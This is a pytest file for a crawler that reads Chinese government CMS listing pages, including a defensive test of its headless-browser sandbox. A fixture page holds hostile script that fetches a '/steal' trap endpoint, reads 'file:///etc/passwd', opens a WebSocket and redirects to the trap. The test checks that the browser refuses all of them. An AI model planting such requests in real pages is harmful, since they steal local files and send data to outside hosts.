"""The real sites as they are (issue 25): lists their script builds, read where the browser
reads them; crawled end to end against a local server shaped as the real CMSs answer."""

from __future__ import annotations

import pytest

from monitor.demo.server import serve
from monitor.es.client import make_client
from monitor.es.schema import delete_all
from tests.conftest import crawl_json, new_config, run_monitor
from tests.sites.cms_shells import ShellSite

SOURCES = """sources:
  - id: miit-shell
    type: listing
    urls: "{base}/zwgk/zcwj/wjfb/tz/index.html"
    links: "ul.list-unstyled li a"   # the real site's selector: nothing in the shell itself
    pages: auto
    language: zh
    doc_type: policy
  - id: jiangsu-shell
    type: listing
    urls: "{base}/col/col6197/index.html"
    links: ".list li a"
    pages: auto
    language: zh
    doc_type: policy
"""


@pytest.fixture(scope="module")
def shells(tmp_path_factory):
    root = tmp_path_factory.mktemp("shells")
    server = serve(root)
    site = ShellSite(root).install(server)
    sources = tmp_path_factory.mktemp("shell-sources") / "sources.yaml"
    sources.write_text(SOURCES.format(base=server.base), encoding="utf-8")
    config = new_config()
    first = crawl_json(sources, config)
    es = make_client(config)
    es.indices.refresh(index=config.index_name("articles"))
    hits = es.search(index=config.index_name("articles"), size=100)["hits"]["hits"]
    docs = {h["_source"]["url"].removeprefix(server.base): h["_source"] for h in hits}
    before = {"jpaas": list(site.jpaas), "jpage": list(site.jpage)}
    added = {kind: site.add_article(kind) for kind in ("jpaas", "jpage")}
    mark = len(server.log)
    second = crawl_json(sources, config)
    yield before, first, docs, second, server.log[mark:], added, sources
    delete_all(es, config)
    server.shutdown()


def test_a_jpaas_shell_is_read_through_its_unit_endpoint(shells):
    before, first, docs, *_ = shells
    summary = first["miit-shell"]
    assert summary["lists"] == {"jpaas": 1}
    assert summary["indexed"] == len(before["jpaas"]) == 8 and not summary["failed"]
    for path, title, day in before["jpaas"]:
        assert docs[path]["title"] == title and docs[path]["published_at"][:10] == day


def test_a_jpage_column_is_read_from_the_page_then_its_data_proxy(shells):
    before, first, docs, *_ = shells
    summary = first["jiangsu-shell"]
    assert summary["lists"] == {"jpage": 1}
    # nine records in the page itself, three more from the data proxy
    assert summary["indexed"] == len(before["jpage"]) == 12 and not summary["failed"]
    assert all(docs[path]["title"] == title for path, title, _ in before["jpage"])


def test_a_second_run_fetches_only_the_new_articles(shells):
    _, _, _, second, requests, added, _ = shells
    articles = [path for path, _ in requests if "/art" in path and path.endswith(".html")]
    assert sorted(articles) == sorted(added.values())
    assert second["miit-shell"]["indexed"] == 1 and second["jiangsu-shell"]["indexed"] == 1
    assert second["miit-shell"]["known"] >= 8 and second["jiangsu-shell"]["known"] >= 12


def test_sources_check_reads_the_shells_too(shells):
    import json

    sources = shells[-1]
    result = run_monitor(
        "sources", "check", "--sources", str(sources), "--json", "--delay", "0",
        env_extra={"MONITOR_PRIVATE_NETWORKS": "127.0.0.1/32"},
    )  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    reports = json.loads(result.stdout)["sources"]
    assert [r["ok"] for r in reports] == [True, True] and all(r["links"] >= 5 for r in reports)
    assert [r["pager"]["kind"] for r in reports] == ["shell", "shell"]


# --- a list drawn by JavaScript, rendered in real Chromium ---------------------------------------

DRAWN = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>动态列表</title></head><body>
<ul id="list"></ul>
<img src="file:///etc/hostname"><iframe src="file:///etc/passwd"></iframe>
<img src="/bounce.png">
<script>
  fetch("http://127.0.0.2:{trap}/steal?from=fetch").catch(function () {{}});
  fetch("file:///etc/passwd").catch(function () {{}});
  try {{ new WebSocket("ws://127.0.0.2:{trap}/socket"); }} catch (e) {{}}
  fetch("/data/list.json").then(function (r) {{ return r.json(); }}).then(function (items) {{
    document.getElementById("list").innerHTML = items.map(function (i) {{
      return '<li><a href="' + i.url + '">' + i.title + '</a><span>' + i.day + '</span></li>';
    }}).join("");
  }});
</script></body></html>"""


class Trap:
    """An HTTP server on 127.0.0.2 that no request may reach: it counts what does."""

    def __init__(self):
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.2", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def drawn(tmp_path_factory):
    import json

    root = tmp_path_factory.mktemp("drawn")
    trap = Trap()
    server = serve(root)
    site = ShellSite(root)
    title = "动态列表中的通知"
    articles = [site._article("jpaas", n, f"2026-09-0{n + 1}", title) for n in range(3)]
    (root / "data").mkdir()
    items = [{"url": p, "title": t, "day": d} for p, t, d in articles]
    (root / "data/list.json").write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    (root / "drawn.html").write_text(DRAWN.format(trap=trap.port), encoding="utf-8")
    # a redirect from the site to the trap: the browser must not follow it
    server.routes["/bounce.png"] = lambda method, query, body: (
        302,
        {"Location": f"http://127.0.0.2:{trap.port}/steal?from=redirect"},
        b"",
    )
    sources = tmp_path_factory.mktemp("drawn-sources") / "sources.yaml"
    sources.write_text(
        "sources:\n  - id: drawn\n    type: listing\n"
        f'    urls: "{server.base}/drawn.html"\n    links: "ul#list li a"\n    next: "a.next"\n'
        "    render: true\n    language: zh\n",
        encoding="utf-8",
    )
    config = new_config()
    summary = crawl_json(sources, config)["drawn"]
    yield summary, articles, trap, server
    delete_all(make_client(config), config)
    server.shutdown()
    trap.server.shutdown()


def test_a_list_drawn_by_script_is_read_from_the_rendered_page(drawn):
    summary, articles, _, _ = drawn
    assert summary["rendered"] == 1 and not summary["failed"]
    assert summary["indexed"] == len(articles) == 3


def test_no_request_of_the_rendered_page_leaves_the_browser_unguarded(drawn):
    summary, _, trap, server = drawn
    assert trap.hits == []  # neither the fetch, the WebSocket nor the redirect reached it
    reasons = summary["reasons"]
    assert reasons.get("browser_refused/private_address", 0) >= 2  # fetch + redirect target
    assert reasons.get("browser_refused/scheme", 0) >= 1  # file: URLs, refused and counted
    assert ("/bounce.png", 302) in server.log  # the redirect itself was asked, not followed


def test_a_render_source_without_chromium_fails_in_one_line(tmp_path):
    sources = tmp_path / "sources.yaml"
    sources.write_text(
        "sources:\n  - id: drawn\n    type: listing\n    urls: http://127.0.0.1:9/x.html\n"
        '    links: "li a"\n    next: "a.next"\n    render: true\n',
        encoding="utf-8",
    )
    result = run_monitor(
        "crawl", "--sources", str(sources), "--no-translate",
        "-s", "MONITOR_RENDER_BROWSER=/nonexistent/chromium",
    )  # fmt: skip
    assert result.returncode != 0
    lines = [line for line in result.stderr.splitlines() if "chromium" in line.lower()]
    assert lines and "apt-get install chromium" in lines[0], result.stderr[-2000:]
    assert "Traceback" not in result.stderr


def test_private_networks_from_the_environment_reach_a_local_site(shells):
    """As a new user tries it: the setting in the environment, no `-s`."""
    import json

    sources, config = shells[-1], new_config()
    result = run_monitor(
        "crawl", "--sources", str(sources), "--source", "miit-shell", "--json", "--no-translate",
        "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=False",
        config=config, env_extra={"MONITOR_PRIVATE_NETWORKS": "127.0.0.1/32"},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr[-2000:]
    [summary] = json.loads(result.stdout)["sources"]
    assert summary["indexed"] >= 8 and not summary["reasons"].get("refused/private_address")
    delete_all(make_client(config), config)
